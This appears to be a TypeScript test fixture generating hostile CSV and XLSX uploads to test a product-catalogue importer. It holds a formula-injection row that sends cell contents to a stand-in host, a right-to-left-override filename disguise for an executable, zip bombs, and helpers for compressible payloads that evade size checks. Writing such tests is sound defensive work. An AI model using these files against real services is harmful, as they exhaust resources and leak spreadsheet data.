import { randomBytes } from 'node:crypto'
import { packArchive, packWorkbook } from '../../unit/sheets/pack-archive.ts'

export interface HostileFile {
  readonly name: string
  readonly file: string
  readonly bytes: () => Uint8Array
}

const id = '00000000-0000-4000-8000-000000000000'
const header = 'Shelfside product ID,Name,Price\n'
const bytes = (text: string) => new TextEncoder().encode(text)
const csv = (name: string, text: () => string): HostileFile => ({
  name,
  file: 'a.csv',
  bytes: () => bytes(text()),
})

const open = Buffer.from(
  '<row><c t="inlineStr"><is><t>Name</t></is></c></row><row><c t="inlineStr"><is><t>',
)
const close = Buffer.from('</t></is></c></row>')

/** Each as large as is let in, where its size is what is hostile. */
export const hostileFiles: readonly HostileFile[] = [
  csv(
    'a formula in every row',
    () => header + `${id},"=HYPERLINK(""http://x/?""&A1)",20\n`.repeat(200_000),
  ),
  csv('bidi', () => header + `${id},Scarf \u202Efdp.exe,20\n`.repeat(200_000)),
  csv('NUL at the end', () => `${header}${'a,b,c\n'.repeat(3_000_000)}a,\0,c\n`),
  {
    name: 'lone surrogate, UTF-16',
    file: 'a.csv',
    bytes: () => toWide(`${header}${'x,y,z\n'.repeat(1_500_000)}a,\uD800,c\n`),
  },
  {
    name: 'UTF-16, too many rows',
    file: 'a.csv',
    bytes: () => toWide(header + 'x,y,z\n'.repeat(1_700_000)),
  },
  csv('\\r only, too many rows', () =>
    (header + 'x,y,z\n'.repeat(3_000_000)).replaceAll('\n', '\r'),
  ),
  csv('ragged rows', () => header + `${id},Scarf\n`.repeat(200_000)),
  csv(
    '200,000 rows of 45 empty cells',
    () => `${header.trim()}${','.repeat(45)}\n${`x${','.repeat(47)}\n`.repeat(200_000)}`,
  ),
  csv('duplicate header', () => `SKU,Price,Price\n${'1,2,3\n'.repeat(200_000)}`),
  csv('unclosed quote', () => `${header}"${'x,y\n'.repeat(4_500_000)}`),
  csv('a million columns', () => `${'a,'.repeat(1_000_000)}b\n`),
  csv('quotes alone', () => `${header}${'""'.repeat(9_000_000)}`),
  { name: 'a zip named .csv', file: 'a.csv', bytes: () => zip('xl/worksheets/sheet1.xml', 1_000) },
  {
    name: 'a zip bomb of 500 MB as .xlsx',
    file: 'a.xlsx',
    bytes: () => zip('xl/worksheets/sheet1.xml', 500 * 1024 * 1024),
  },
  {
    name: 'a zip bomb as .xlsx',
    file: 'a.xlsx',
    bytes: () => zip('xl/worksheets/sheet1.xml', 600 * 1024 * 1024),
  },
  {
    name: 'a workbook with a cell of 400 MB',
    file: 'a.xlsx',
    bytes: () => packWorkbook({ rows: Buffer.concat([open, swell(400 * 1024 * 1024), close]) }),
  },
  {
    name: 'a workbook with a shared text of 60 MB',
    file: 'a.xlsx',
    bytes: () =>
      packWorkbook({
        rows: `<row>${cell('Name')}</row><row><c t="s"><v>0</v></c></row>`,
        texts: Buffer.concat([
          Buffer.from('<sst><si><t>'),
          swell(60 * 1024 * 1024),
          Buffer.from('</t></si></sst>'),
        ]),
      }),
  },
  {
    name: 'a workbook with two million shared texts and more',
    file: 'a.xlsx',
    bytes: () =>
      packWorkbook({
        rows: `<row>${cell('Name')}</row>`,
        texts: `<sst>${Array.from({ length: 2_200_000 }, (_, at) => `<si><t>${at}</t></si>`).join('')}</sst>`,
      }),
  },
  {
    name: 'a workbook that names one long text in every row',
    file: 'a.xlsx',
    bytes: () =>
      packWorkbook({
        rows: `<row>${cell('Name')}</row>${'<row><c t="s"><v>0</v></c><c><v>1</v></c></row>'.repeat(200_000)}`,
        texts: `<sst><si><t>${'Ж'.repeat(32_000)}</t></si></sst>`,
      }),
  },
  csv('3,001 rows for one id', () => header + `${id},Scarf,20\n`.repeat(3_001)),
]

function toWide(text: string): Uint8Array {
  const wide = Buffer.from(`\uFEFF${text}`, 'utf16le')
  return new Uint8Array(wide.buffer, wide.byteOffset, wide.byteLength)
}

/** One entry of zeros, which says truly how large it becomes. */
function zip(name: string, size: number): Uint8Array {
  return packArchive([{ name, content: new Uint8Array(size) }])
}

/** Texts that pack to a fiftieth: small enough to be let in, however large they become. */
function swell(size: number): Buffer {
  const noise = randomBytes(1_500).toString('hex')
  const part = Buffer.from(noise + 'x'.repeat(147_000))
  return Buffer.alloc(size, part)
}

const cell = (content: string) => `<c t="inlineStr"><is><t>${content}</t></is></c>`
